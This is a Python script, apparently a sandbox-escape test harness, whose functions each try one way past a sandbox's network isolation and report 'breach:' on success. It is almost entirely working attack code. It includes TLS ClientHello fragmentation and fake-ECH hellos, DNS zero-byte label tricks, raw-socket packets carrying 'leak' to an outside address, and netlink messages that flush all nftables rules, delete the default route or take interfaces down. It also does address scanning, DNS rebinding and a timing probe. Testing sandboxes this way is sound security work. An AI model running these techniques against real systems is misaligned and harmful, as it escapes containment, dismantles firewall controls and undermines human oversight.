# attack.py WHAT …: one way past a sandbox's network per word. What it says with "breach:" it has reached; whether a server
# was reached, the servers know better. Runs inside a sandbox and, to prove that it could succeed, outside of one.
import fcntl
import os
import socket
import ssl
import struct
import sys
import time

WAIT = 2
# Behind the first bytes of an answer, until no more are expected: longer than anything on the way waits for more.
# Where nothing stands in the way the scene says less.
SILENCE = float(os.environ.get("SILENCE", "2"))


def bytes_of(text):
    return text.encode("latin1").decode("unicode_escape").encode("latin1")


def show(connection):
    connection.settimeout(WAIT)
    received = b""
    try:
        while len(received) < 65536:
            part = connection.recv(4096)
            if not part:
                break
            received += part
            connection.settimeout(SILENCE)
    except OSError as error:
        print(error)
    print(received.decode("latin1"))


def connected(host, port):
    return socket.create_connection((host, int(port)), WAIT)


def tcp(host, port, text):
    with connected(host, port) as connection:
        connection.sendall(bytes_of(text))
        show(connection)


# The host or a firewall may take what comes late for granted.
def late(host, port, seconds, text):
    with connected(host, port) as connection:
        time.sleep(float(seconds))
        connection.sendall(bytes_of(text))
        show(connection)


def bytewise(host, port, text):
    with connected(host, port) as connection:
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for byte in bytes_of(text):
            connection.sendall(bytes([byte]))
            time.sleep(0.005)
        show(connection)


def context():
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    return made


def tls(host, port, name, text):
    with connected(host, port) as plain:
        with context().wrap_socket(plain, server_hostname=None if name == "-" else name) as connection:
            connection.sendall(bytes_of(text))
            show(connection)


# The handshake by hand, so that what is sent first can be cut into as many records and packets as one likes.
def tls_cut(host, port, name, size, text):
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    end = context().wrap_bio(incoming, outgoing, server_hostname=name)
    with connected(host, port) as connection:
        connection.settimeout(WAIT)
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        first = True
        while True:
            try:
                end.do_handshake()
                break
            except ssl.SSLWantReadError:
                said = outgoing.read()
                if first:
                    first = False
                    body = said[5:]
                    for at in range(0, len(body), int(size)):
                        part = body[at : at + int(size)]
                        connection.sendall(said[:3] + struct.pack("!H", len(part)) + part)
                        time.sleep(0.01)
                else:
                    connection.sendall(said)
                heard = connection.recv(65536)
                if not heard:
                    print("ended")
                    return
                incoming.write(heard)
        end.write(bytes_of(text))
        connection.sendall(outgoing.read())
        show(connection)


# Other bytes first, then a whole hello.
def tls_behind(host, port, name, ahead):
    out = ssl.MemoryBIO()
    try:
        context().wrap_bio(ssl.MemoryBIO(), out, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    with connected(host, port) as connection:
        connection.sendall(bytes.fromhex(ahead) + out.read())
        show(connection)


# A hello whose outer name is allowed and whose encrypted one nobody can read.
def ech(host, port, name):
    def extension(number, data):
        return struct.pack("!HH", number, len(data)) + data

    server_name = b"\x00" + struct.pack("!H", len(name)) + name.encode()
    hello = b"\x03\x03" + os.urandom(32) + b"\x20" + os.urandom(32) + b"\x00\x02\x13\x01" + b"\x01\x00"
    extensions = (
        extension(0, struct.pack("!H", len(server_name)) + server_name)
        + extension(10, b"\x00\x02\x00\x1d")
        + extension(13, b"\x00\x02\x08\x04")
        + extension(43, b"\x02\x03\x04")
        + extension(51, b"\x00\x24\x00\x1d\x00\x20" + os.urandom(32))
        + extension(0xFE0D, b"\x00\x00\x01\x00\x01\x07\x00\x20" + os.urandom(32) + b"\x00\x90" + os.urandom(144))
    )
    hello += struct.pack("!H", len(extensions)) + extensions
    record = b"\x01" + struct.pack("!I", len(hello))[1:] + hello
    with connected(host, port) as connection:
        connection.sendall(b"\x16\x03\x01" + struct.pack("!H", len(record)) + record)
        show(connection)


def udp(host, port, text):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.settimeout(WAIT)
        try:
            connection.connect((host, int(port)))
            connection.send(bytes_of(text))
            print(connection.recv(4096).decode("latin1"))
        except OSError as error:
            print(error)


def query_of(name, kind):
    labels = b"".join(struct.pack("!B", len(label)) + label for label in bytes_of(name).split(b"."))
    return os.urandom(2) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00" + struct.pack("!HH", int(kind), 1)


def dns(transport, server, name, kind):
    query = query_of(name, kind)
    if transport == "udp":
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
            connection.settimeout(WAIT)
            try:
                connection.sendto(query, (server, 53))
                print(connection.recv(4096).hex())
            except OSError as error:
                print(error)
        return
    with connected(server, 53) as connection:
        connection.sendall(struct.pack("!H", len(query)) + query)
        show(connection)


# A name whose label holds a zero byte: libraries written in C read it as its beginning.
def dns_zero(server, head, tail):
    labels = [head.encode() + b"\x00" + tail.split(".")[0].encode(), *(part.encode() for part in tail.split(".")[1:])]
    packed = b"".join(struct.pack("!B", len(label)) + label for label in labels)
    query = os.urandom(2) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + packed + b"\x00\x00\x01\x00\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.settimeout(WAIT)
        connection.sendto(query, (server, 53))
        try:
            print(connection.recv(4096).hex())
        except OSError as error:
            print(error)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ping(kind, host):
    number = {"raw": socket.SOCK_RAW, "datagram": socket.SOCK_DGRAM}[kind]
    with socket.socket(socket.AF_INET, number, socket.IPPROTO_ICMP) as connection:
        connection.settimeout(WAIT)
        head = struct.pack("!BBHHH", 8, 0, 0, 77, 1)
        payload = b"squash!!"
        packet = struct.pack("!BBHHH", 8, 0, checksum(head + payload), 77, 1) + payload
        connection.sendto(packet, (host, 0))
        end = time.monotonic() + WAIT
        while time.monotonic() < end:
            answer, source = connection.recvfrom(1024)
            icmp = answer[20:] if kind == "raw" else answer
            if icmp[0] == 0 and source[0] == host:
                print("breach: answered")
                return


def packet():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as connection:
        connection.bind(("lo", 0))
        print("breach: every packet can be read and written")


def raw():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as connection:
        connection.sendto(struct.pack("!BBHHHBBH4s4s", 69, 0, 24, 1, 0, 64, 17, 0, bytes(4), bytes([5, 6, 6, 6])) + b"leak", ("5.6.6.6", 0))
        print("breach: packets with any content can be sent")


def acknowledged(family, message):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, family) as connection:
        connection.settimeout(WAIT)
        connection.bind((0, 0))
        connection.send(message)
        while True:
            answer = connection.recv(65536)
            while len(answer) >= 20:
                length, kind = struct.unpack_from("=IH", answer)
                if kind == 2:
                    return struct.unpack_from("=i", answer, 16)[0]
                answer = answer[(length + 3) & ~3 :]


def told(error):
    print("breach: done" if error == 0 else os.strerror(-error))


# RTM_NEWLINK without IFF_UP: without the device there is no relay, and other rules could be made.
def link_down():
    body = struct.pack("=BxHiII", 0, 0, 1, 0, 1)
    told(acknowledged(0, struct.pack("=IHHII", 16 + len(body), 16, 5, 1, 0) + body))


# RTM_NEWADDR: an address of one's own choice on the loopback device.
def add_address():
    body = struct.pack("=BBBBI", 2, 32, 0, 0, 1) + struct.pack("=HH4s", 8, 2, bytes([5, 6, 6, 6]))
    told(acknowledged(0, struct.pack("=IHHII", 16 + len(body), 20, 5 | 0x600, 1, 0) + body))


# RTM_DELROUTE of the route that brings everything to the relay; where there is none, one is made first.
def delete_route():
    body = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 254, 2, 0) + struct.pack("=HHI", 8, 4, 1)
    acknowledged(0, struct.pack("=IHHII", 16 + len(body), 24, 5 | 0x600, 1, 0) + body)
    told(acknowledged(0, struct.pack("=IHHII", 16 + len(body), 25, 5, 2, 0) + body))


# One batch of nftables that deletes every table.
def flush_rules():
    generation = struct.pack("=BBH", 0, 0, 10 << 8)
    begin = struct.pack("=IHHII", 20, 16, 1, 1, 0) + generation
    delete = struct.pack("=IHHII", 20, (10 << 8) | 2, 5, 2, 0) + struct.pack("=BBH", 0, 0, 0)
    end = struct.pack("=IHHII", 20, 17, 1, 3, 0) + generation
    told(acknowledged(12, begin + delete + end))


def bind(kind, host, port, *options):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    number = socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM
    with socket.socket(family, number) as connection:
        for option in options:
            connection.setsockopt(socket.SOL_SOCKET, getattr(socket, option), 1)
        connection.bind((host, int(port)))
        if kind == "tcp":
            connection.listen()
        print("breach: bound")


def unix(path):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(WAIT)
        connection.connect("\0" + path[1:] if path.startswith("@") else path)
        print("breach: connected")


# Connects to every address that somebody could have been given, and asks for a host by name there.
def scan(first, last, name):
    def number(text):
        return struct.unpack("!I", socket.inet_aton(text))[0]

    for at in range(number(first), number(last) + 1):
        try:
            with socket.create_connection((socket.inet_ntoa(struct.pack("!I", at)), 80), 1) as connection:
                connection.sendall(f"GET /leak HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode())
                connection.settimeout(1)
                print(connection.recv(200).decode("latin1").split("\r\n")[0])
        except OSError as error:
            print(error)


# A server says what may be the beginning of a value, and nothing more for a while: is it told at once?
def pace(host, guess, other):
    # How long the text took: at once, within the second that all text may wait, or longer.
    def told(text):
        with connected(host, 80) as connection:
            connection.sendall(f"GET /paced?text={text} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
            connection.settimeout(10)
            received = b""
            while b"\r\n\r\n" not in received:
                received += connection.recv(4096)
            began = time.monotonic()
            while text.encode() not in received:
                part = connection.recv(4096)
                if not part:
                    return 2
                received += part
            took = time.monotonic() - began
            return 0 if took < 0.3 else 1 if took < 1.8 else 2

    if [told(guess) for _ in range(3)] != [told(other) for _ in range(3)]:
        print("breach: the beginning of a value waits")


# Names that change their meaning: asked and connected to again and again.
def rebind(name, seconds):
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        try:
            with connected(name, 80) as connection:
                connection.sendall(f"GET / HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode())
                connection.settimeout(WAIT)
                connection.recv(4096)
        except OSError as error:
            print(error)
        time.sleep(0.5)


def write(path, text):
    with open(path, "w") as file:
        file.write(text)
    print("breach: written")


def interface(name):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        wanted = struct.pack("16sH14x", name.encode(), 0)
        fcntl.ioctl(connection, 0x8914, wanted)
        print("breach: taken down")


try:
    globals()[sys.argv[1].replace("-", "_")](*sys.argv[2:])
except OSError as error:
    print(f"held: {error}")
print("over")
